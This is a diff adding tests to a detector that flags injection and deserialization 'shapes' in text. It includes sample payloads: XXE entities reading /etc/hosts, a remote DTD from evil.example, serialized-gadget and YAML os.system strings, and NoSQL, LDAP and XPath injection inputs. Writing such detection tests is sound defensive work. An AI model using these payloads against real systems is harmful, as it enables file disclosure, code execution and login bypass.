@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { argumentShapes } from '../../../../collectors/normalize/shapes/argument-shapes.ts';
+import { operatorShapes } from '../../../../collectors/normalize/shapes/interpreter-shapes.ts';
 import { shapeOfHost } from '../../../../collectors/normalize/shapes/address-shapes.ts';
 import type { ShapeCounts } from '../../../../collectors/normalize/shapes/shape.ts';
 
@@ -181,6 +182,87 @@ describe('commands, templates and code', () => {
   });
 });
 
+describe('languages of what stands behind a tool', () => {
+  it.each([
+    [
+      '<?xml version="1.0"?>\n<!DOCTYPE a [\n<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>',
+      'xml_entity',
+    ],
+    ['<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', 'xml_entity'],
+    ['<xi:include href="file:///etc/hosts"/>', 'xml_entity'],
+    ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHD', 'serialized_object'],
+    ['aced00057372001164', 'serialized_object'],
+    ['AAEAAAD/////AQAAAAAAAAAMAgAAAF9T', 'serialized_object'],
+    ['gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt', 'serialized_object'],
+    ['O:8:"Monolog\\Handler":2:{s:1:"a";i:1;}', 'serialized_object'],
+    ['!!python/object/apply:os.system ["id"]', 'serialized_object'],
+    ['!!javax.script.ScriptEngineManager [!!java.net.URL ["http://evil.example"]]', 'serialized_object'],
+    ['{"rce":"_$$ND_FUNC$$_function(){}()"}', 'serialized_object'],
+    ['{"$ne": null}', 'nosql_injection'],
+    ['{"$gt": ""}', 'nosql_injection'],
+    ["{ $where: 'sleep(5000)' }", 'nosql_injection'],
+    ['user[$ne]=x&password[$gt]=', 'nosql_injection'],
+    ["x' || this.password.length > 0 || 'a'=='b", 'nosql_injection'],
+    ['*)(uid=*))(|(uid=*', 'ldap_injection'],
+    ['admin)(&)', 'ldap_injection'],
+    ["' | //user/*['", 'xpath_injection'],
+    ["x' or count(//user)=1 or 'a'='b", 'xpath_injection'],
+  ])('%s is %s', (text, shape) => {
+    expect(shapesOf(text)).toContain(shape);
+  });
+
+  it.each([
+    ['<!DOCTYPE html><html><body>Hello</body></html>', 'page'],
+    [
+      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/x.dtd">',
+      'page',
+    ],
+    ['<!DOCTYPE html SYSTEM "about:legacy-compat">', 'page'],
+    ['(&(objectClass=person)(mail=a@b.example))', 'filter'],
+    ['costs $5 (net) (gross $6)', 'note'],
+    ['f(x)(y)', 'formula'],
+    ['Great work!! com.example.app is live', 'title'],
+    ['note to: "Bob": 2 or 3 // later', 'title'],
+    ['const query = { $ne: 5 };', 'code'],
+    ['{"price": {"$gt": 5, "$lte": 9}}', 'query'],
+    ['gASV is a name', 'title'],
+    ['//div[@class="x"] | //span', 'selector'],
+  ])('%s as %s is none of them', (text, path) => {
+    expect(shapesOf(text, path)).toEqual([]);
+  });
+
+  const operators = (given: unknown) => {
+    const counts: ShapeCounts = {};
+    operatorShapes(given, counts);
+    return counts;
+  };
+
+  it('are operators where a member is named so, however deep and whatever it holds', () => {
+    expect(operators({ user: 'a', password: { $ne: null } })).toEqual({ nosql_injection: 1 });
+    expect(operators([{ a: [{ $where: '' }, { $regex: '.*' }, { $gt: '' }] }])).toEqual({
+      nosql_injection: 3,
+    });
+    for (const given of [
+      undefined,
+      null,
+      'x',
+      { price: { $sum: 1, $gt: 5 } },
+      { $ref: '#/a' },
+      { dollar: '$ne' },
+    ])
+      expect(operators(given)).toEqual({});
+  });
+
+  it('are looked for in bounded time, whatever the arguments', () => {
+    let deep: unknown = { $ne: 1 };
+    for (let depth = 0; depth < 5_000; depth += 1) deep = { a: deep };
+    expect(operators(deep)).toEqual({});
+    const wide = Array.from({ length: 100_000 }, () => ({ $ne: 1 }));
+    expect(operators(wide)).toEqual({ nosql_injection: 99 });
+    expect(operators([...Array.from({ length: 512 }, () => 1), { $ne: 1 }])).toEqual({});
+  });
+});
+
 it('takes time linear in hostile text', () => {
   const texts = [
     "' or ".repeat(13_000),
@@ -189,6 +271,11 @@ it('takes time linear in hostile text', () => {
     '{{ '.repeat(21_000),
     '://a@'.repeat(13_000),
     '$(('.repeat(21_000),
+    '<!DOCTYPE a '.repeat(5_000),
+    'O:1:"'.repeat(13_000),
+    ')('.repeat(32_000),
+    '{ $'.repeat(21_000),
+    "' or count( ".repeat(5_000),
   ];
   for (const text of texts) {
     const start = performance.now();
